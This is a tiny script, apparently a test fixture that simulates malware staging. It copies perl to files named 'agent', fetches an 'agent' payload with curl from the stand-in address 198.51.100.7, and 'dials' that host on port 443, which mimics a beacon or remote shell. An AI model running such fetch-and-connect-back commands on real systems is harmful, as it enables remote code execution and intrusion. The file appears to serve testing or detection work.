# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/curl
cp /usr/bin/perl /tmp/agent
dial /tmp/agent 198.51.100.7 443
curl -sO http://198.51.100.7/agent
cp /usr/bin/perl /srv/agent
dial /srv/agent 198.51.100.7 443
